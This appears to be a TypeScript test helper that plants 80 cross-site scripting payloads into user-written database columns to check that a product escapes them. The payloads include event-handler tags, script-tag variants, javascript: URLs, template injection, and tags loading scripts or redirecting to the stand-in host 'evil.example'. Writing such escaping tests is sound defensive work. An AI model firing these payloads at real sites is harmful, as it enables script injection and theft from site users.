import { query } from './database.ts';
import type { Product } from './product.ts';

/** Runs when one of the texts below is taken for more than a text. */
const RUN = 'globalThis.broken=1';
/** What is asked for then from somebody else's server. */
export const EVIL = 'evil.example';

const TAGS = ['img', 'svg', 'body', 'video', 'audio', 'input', 'details', 'iframe', 'object', 'math'];
const HANDLERS = ['onerror', 'onload', 'ontoggle', 'onfocus', 'onanimationstart'];

/** Texts that would run, load or escape in HTML, attributes, addresses, styles and templates: 80 of them. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} src=x autofocus open ${handler}=${RUN}>`)),
  ...[
    '<script>',
    '<ScRiPt >',
    '<script\t>',
    '"><script>',
    "'><script>",
    '</title><script>',
    '--><script>',
  ].map((open) => `${open}${RUN}</script>`),
  `<script src=//${EVIL}/x.js></script>`,
  `<img src=//${EVIL}/x.png>`,
  `<link rel=stylesheet href=//${EVIL}/x.css>`,
  `<style>@import "//${EVIL}/x.css"</style>`,
  `<iframe src=javascript:${RUN}></iframe>`,
  `<iframe srcdoc="<script>parent.broken=1</script>"></iframe>`,
  `<a href=javascript:${RUN}>x</a>`,
  `<form action=//${EVIL}><button>x`,
  `<meta http-equiv=refresh content="0;url=//${EVIL}">`,
  `<base href=//${EVIL}/>`,
  `" onmouseover=${RUN} x="`,
  `' onfocus=${RUN} autofocus x='`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `url(//${EVIL}/x.png)`,
  `expression(${RUN})`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `\u202e<img src=x onerror=${RUN}>`,
];

/** Texts that people write, by table; names that tests sign in with stay. */
const WRITTEN: Readonly<Record<string, string>> = {
  event_template: 'title description',
  event: 'title place note cancel_description',
  regulation: 'title content',
  member: 'name city',
  booking: 'note',
  channel_code: 'content event_title',
  class_pack: 'name',
  package_order: 'note',
  task: 'title description',
  task_item: 'fail_text note',
  sport_type: 'name',
  company: 'name company_name contact_name',
  store: 'name full_name address',
  account: 'name',
  message_outbox: 'text',
  merchant_audit: 'comment actor',
  content: 'title text city type merchant_reply official_reply',
  content_report: 'text',
  content_decision: 'note',
};

/** A word of 40 letters that no line of a phone holds, as a pasted address. */
export const LONG_WORDS: readonly string[] = ['W'.repeat(40)];

/** Puts one of the texts into every text of every row, another one in each row. */
export async function plantTexts(product: Product, texts: readonly string[]): Promise<void> {
  for (const [table, columns] of Object.entries(WRITTEN)) {
    const text = `($1::text[])[1 + n.row % ${texts.length}] || ' ' || n.row`;
    const set = columns.split(' ').map((column) => `${column} = ${text}`);
    await query(
      product,
      `update "${table}" t set ${set.join(', ')}
       from (select ctid as at, row_number() over () as row from "${table}") n where t.ctid = n.at`,
      [texts],
    );
  }
}
